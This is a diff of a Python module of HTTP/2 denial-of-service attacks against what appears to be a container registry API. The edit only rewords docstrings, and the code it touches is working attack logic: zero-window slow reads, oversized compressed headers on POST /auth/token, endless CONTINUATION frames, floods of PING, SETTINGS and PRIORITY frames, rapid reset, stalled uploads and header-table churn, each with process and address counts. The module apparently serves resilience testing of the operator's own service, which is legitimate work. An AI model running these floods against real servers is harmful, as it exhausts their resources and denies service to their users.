@@ -19,13 +19,13 @@ def swarm(context, count, make_stream, streams, own_settings=None, tick=None, op
 
 
 def drip_window(connection):
-    """A byte of window for each stream, so that all of them seem to be read."""
+    """Grants one byte of window to each stream, so that all of them appear to be read."""
     return b"".join(http2.window_update(stream, 1) for stream in sorted(connection.open)[:64])
 
 
 @attack("h2-unread-blobs", processes=2, addresses=10)
 def h2_unread_blobs(context):
-    """Streams that ask for a public blob with a window of zero, and get a byte of window from time to time."""
+    """Streams that request a public blob with a window of zero, and grant a byte of window from time to time."""
     path = f"/v2/pub/big/blobs/{context.facts['big']}"
     block = http2.request("GET", path, context.host)
 
@@ -38,8 +38,8 @@ def h2_unread_blobs(context):
 
 @attack("h2-heads", processes=2, addresses=10, seconds=15)
 def h2_heads(context):
-    """Streams with as many headers as the server takes, compressed to a few bytes, that wait in POST /auth/token for a
-    body which never comes."""
+    """Streams with as many headers as the server accepts, compressed to a few bytes, for POST /auth/token with a body
+    that is never sent."""
     block = http2.request("POST", "/auth/token", context.host)
     field = http2.literal("x-a", b"a" * FIELD, remember=True)
 
@@ -67,7 +67,7 @@ def h2_literal_heads(context):
 
 @attack("h2-unread-refusals", quick=False, processes=2, addresses=10)
 def h2_unread_refusals(context):
-    """Streams whose 401 is never taken, for the window is zero."""
+    """Streams whose 401 is never read, because the window is zero."""
     block = http2.request("GET", "/v2/good/app/tags/list", context.host)
 
     def stream(connection, number):
@@ -78,8 +78,7 @@ def h2_unread_refusals(context):
 
 @attack("h2-unread-lists", is_new=True, mode="pull-open", processes=2, addresses=10)
 def h2_unread_lists(context):
-    """Streams that ask for what the server builds in memory (the API's description, metrics, lists), with a window of
-    zero."""
+    """Streams that request responses built in memory (the OpenAPI document, metrics, lists), with a window of zero."""
     paths = ["/api/v1/openapi.json", "/metrics", "/v2/_catalog?n=10000", "/api/v1/repositories?limit=1000", "/api/v1/usage"]
     blocks = [http2.request("GET", path, context.host) for path in paths]
 
@@ -91,7 +90,7 @@ def h2_unread_lists(context):
 
 @attack("h2-continuation", quick=False, is_new=True, processes=2, addresses=10)
 def h2_continuation(context):
-    """HEADERS that never end: CONTINUATION after CONTINUATION, empty ones too."""
+    """HEADERS that never end: endless CONTINUATION frames, also empty ones."""
     start = http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.request("GET", "/v2/", context.host))
     more = http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x-a", b"a" * 16000))
     more_empty = http2.frame(http2.CONTINUATION, 0, 1) * 1000
@@ -104,7 +103,7 @@ def h2_continuation(context):
 
 @attack("h2-control-frames", is_new=True, processes=2, addresses=10)
 def h2_control_frames(context):
-    """PING and SETTINGS, whose answers are never read, PRIORITY, PRIORITY_UPDATE and WINDOW_UPDATE by the thousand."""
+    """Thousands of PING, SETTINGS, PRIORITY, PRIORITY_UPDATE and WINDOW_UPDATE frames, whose responses are never read."""
     kinds = (
         http2.frame(http2.PING, 0, 0, b"12345678"),
         http2.settings({http2.HEADER_TABLE_SIZE: 65536}),
@@ -130,7 +129,7 @@ def h2_control_frames(context):
 
 @attack("h2-rapid-reset", is_new=True, mode="pull-open", processes=2, addresses=10)
 def h2_rapid_reset(context):
-    """Requests for lists and reports that are reset as soon as they are sent."""
+    """Requests for lists and reports that are reset immediately."""
     paths = ["/v2/_catalog?n=10000", "/api/v1/repositories?sort=size", "/api/v1/usage", "/v2/pub/app/manifests/v1"]
     blocks = [http2.request("GET", path, context.host) for path in paths]
 
@@ -167,7 +166,7 @@ def h2_stalled_uploads(context):
     def stream(connection, number):
         block = requests[number // 2 % len(requests)]
         data = http2.frame(http2.DATA, 0, number, body)
-        # The first streams fill the connection's own window; those behind have nothing but their heads.
+        # The first streams fill the connection's window. Later streams send only their heads.
         return http2.head(number, block, end_stream=False) + (data if number < 8 else b"")
 
     swarm(context, context.share(40), stream, 128, every=5)
@@ -175,7 +174,7 @@ def h2_stalled_uploads(context):
 
 @attack("h2-empty-data", quick=False, is_new=True, mode="open", user="mallory", processes=2, addresses=4)
 def h2_empty_data(context):
-    """Uploads by DATA frames of no bytes, of one byte, and of padding alone."""
+    """Uploads in DATA frames that are empty, have one byte, or contain only padding."""
     block = http2.request("POST", "/v2/evil/h2/blobs/uploads/?digest=sha256:" + "0" * 64, context.host, context.fields)
 
     def stream(connection, number):
@@ -194,7 +193,7 @@ def h2_empty_data(context):
 
 @attack("h2-table-churn", quick=False, is_new=True, processes=2, addresses=10)
 def h2_table_churn(context):
-    """Every request fills the table of header compression anew, with hundreds of cookie crumbs."""
+    """Every request refills the header compression table, with hundreds of cookie fields."""
     block = http2.request("GET", "/v2/", context.host)
 
     def stream(connection, number):
